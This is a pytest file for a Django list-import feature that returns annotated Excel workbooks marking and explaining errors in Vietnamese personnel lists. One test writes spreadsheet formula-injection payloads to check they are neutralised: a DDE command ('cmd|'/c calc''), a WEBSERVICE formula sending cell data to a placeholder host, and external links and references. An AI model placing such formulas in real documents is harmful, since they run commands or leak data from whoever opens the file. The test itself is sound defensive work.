import io
import zipfile

import openpyxl
import pytest
import xlsxwriter

from emulation.intake.batch.annotated_workbook import annotated_workbook
from emulation.intake.batch.corrections import mend_row
from emulation.intake.batch.stage import stage_list
from emulation.intake.plan import ImportOptions
from tests.list_files import DAY, PEOPLE, make_office, problems, stage, statuses

pytestmark = pytest.mark.django_db

WRONG = ["CB02", "Lê Minh", "Nmà", "", "", "Xã Hòn Dất", ""]


@pytest.fixture(autouse=True)
def office():
    return make_office()


def opened(content: bytes):
    return openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]


def stage_text(text: str):
    options = ImportOptions(on=DAY)
    return stage_list(content=text.encode(), file_name="danh-sach.csv", kind="people", options=options, by=None)


def test_wrong_cells_are_marked_and_explained_in_the_clerks_own_file():
    page = opened(annotated_workbook(stage("people", PEOPLE, WRONG)))
    assert (page["I1"].value, page["J1"].value) == ("Lỗi", "Gợi ý")
    assert [page[cell].fill.start_color.rgb for cell in ("D2", "G2")] == ["FFF8C9C4", "FFF8C9C4"]
    assert page["C2"].fill.fill_type is None
    assert page["I2"].value.count("\n") == 1 and "“Nmà” không phải là giới tính" in page["I2"].value
    assert page["J2"].value == "Nam; Xã Hòn Đất"


def test_marked_file_corrected_and_uploaded_again_is_clean():
    content = annotated_workbook(stage("people", PEOPLE, WRONG))
    book = openpyxl.load_workbook(io.BytesIO(content))
    book.worksheets[0]["D2"], book.worksheets[0]["G2"] = "Nam", "Xã Hòn Đất"
    out = io.BytesIO()
    book.save(out)
    batch = stage_list(content=out.getvalue(), file_name="lan-2.xlsx", kind="people", options=ImportOptions(on=DAY), by=None)
    assert (problems(batch), statuses(batch)) == ([], ["new"])
    assert opened(annotated_workbook(batch))["I1"].value == "Lỗi"


def test_text_file_is_laid_out_anew_in_its_own_columns():
    page = opened(annotated_workbook(stage_text("STT;Họ và tên;Giới tính;Đơn vị công tác\n1;Lê Minh;Nmà;Sở Y tế\n")))
    assert [page.cell(1, column).value for column in range(1, 7)] == [
        "STT", "Họ và tên", "Giới tính", "Đơn vị", "Lỗi", "Gợi ý",
    ]  # fmt: skip
    assert (page["B2"].value, page["C2"].value, page["F2"].value) == ("Lê Minh", "Nmà", "Nam")


def test_nothing_a_list_says_becomes_a_formula():
    page = opened(annotated_workbook(stage_text("STT;Họ và tên;Chức vụ;Đơn vị công tác\n1;Lê Minh;=1+1;Sở Y tế\n")))
    assert (page["C2"].value, page["C2"].data_type) == ("=1+1", "s")


def test_formulas_and_links_of_the_file_come_back_as_text():
    out = io.BytesIO()
    with xlsxwriter.Workbook(out) as book:
        page = book.add_worksheet("Danh sách")
        page.write_row(0, 0, PEOPLE)
        page.write_row(1, 0, [1, *WRONG[:4]])
        page.write_formula(1, 5, "=cmd|'/c calc'!A1", None, "Văn thư")
        page.write_string(1, 6, "Sở Y tế")
        page.write_formula(1, 8, '=WEBSERVICE("http://example.invalid/"&C2)')
        page.write_url(1, 9, "http://example.invalid/", string="bấm vào đây")
        page.conditional_format("A1:A9", {"type": "formula", "criteria": "=[1]Sheet1!$A$1", "format": None})
        book.define_name("Ngoai", "='[http://example.invalid/x.xlsx]Sheet1'!$A$1")
    batch = stage_list(content=out.getvalue(), file_name="a.xlsx", kind="people", options=ImportOptions(on=DAY), by=None)
    content = annotated_workbook(batch)
    page = opened(content)
    cells = [cell for row in page.iter_rows() for cell in row]
    assert [cell.coordinate for cell in cells if cell.data_type == "f" or cell.hyperlink] == []
    assert (page["F2"].value, page["J2"].value) == ("=cmd|'/c calc'!A1", "bấm vào đây")
    with zipfile.ZipFile(io.BytesIO(content)) as parts:
        texts = {name: parts.read(name).decode() for name in parts.namelist() if name.endswith((".xml", ".rels"))}
    assert [name for name, text in texts.items() if "<f>" in text or "TargetMode" in text or "<definedName " in text] == []


def test_what_was_mended_here_stands_in_the_file_that_comes_back():
    batch = stage("people", PEOPLE, WRONG)
    mend_row(row=batch.rows.get(), cells={"unit": "Xã Hòn Đất", "sex": "Nam"}, by=None, on=DAY)
    page = opened(annotated_workbook(batch))
    assert (page["G2"].value, page["D2"].value, page["C2"].value) == ("Xã Hòn Đất", "Nam", "Lê Minh")
    assert page["G2"].fill.start_color.rgb == "FFD9EAD3"
